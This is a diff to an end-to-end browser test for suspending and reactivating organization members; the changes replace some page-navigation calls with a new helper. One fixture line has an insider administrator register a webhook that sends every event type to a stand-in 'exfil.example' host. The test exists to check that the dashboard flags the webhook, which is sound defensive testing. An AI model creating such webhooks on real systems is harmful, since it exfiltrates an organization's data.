@@ -11,7 +11,7 @@ test('a member is suspended as the preview said, and reactivated', async () => {
   await mallory.openSession()
   const exfil = { url: 'https://exfil.example/reeve', event_types: ['*'] }
   const { id: webhook } = (await mallory.call('POST /v1/governance/webhooks', { body: exfil })).body
-  await inWindow({ as: acme.owner }, async ({ page, open }) => {
+  await inWindow({ as: acme.owner }, async ({ page, open, go }) => {
     await open(`/members/${mallory.userId}`)
     await page.getByRole('button', { name: `Suspend ${name}` }).click()
     const stops = page.getByRole('region', { name: 'Will stop' })
@@ -121,7 +121,7 @@ test('a member is suspended as the preview said, and reactivated', async () => {
       [member.status, suspension.reason, suspension.oracle_paused, suspension.login_blocked],
       ['suspended', 'laptop stolen', true, true],
     )
-    await open('/')
+    await go('/')
     const needs = page.getByRole('list', { name: 'Needs attention' }).getByRole('listitem')
     await needs
       .filter({ hasText: `The webhook ${exfil.url} is still active` })
@@ -252,14 +252,14 @@ test('a login that stays open is said everywhere, and blocked where one reads of
   const mallory = await acme.person('administrator')
   const { name } = (await acme.owner.call(`GET /v1/members/${mallory.userId}`)).body
   await mallory.openSession()
-  await inWindow({ as: acme.owner }, async ({ page, open }) => {
+  await inWindow({ as: acme.owner }, async ({ page, open, go }) => {
     await open(`/members/${mallory.userId}/suspend`)
     await page.getByRole('checkbox', { name: 'Block sign-in' }).uncheck()
     await page.getByRole('region', { name: 'Keeps running' }).getByText('Unknown browser').waitFor()
     await page.getByRole('button', { name: `Suspend ${name}` }).click()
     await page.getByText(`${name} no longer has access to this organization. Sign-in is still allowed.`).waitFor()
 
-    await open(`/members/${mallory.userId}/reactivate`)
+    await go(`/members/${mallory.userId}/reactivate`)
     const comes = page.getByRole('region', { name: 'Will be restored' })
     await comes.getByRole('listitem').filter({ hasText: '1 open session' }).getByText('Unknown browser').waitFor()
     // A suspension other than the previewed one must not be ended unseen.
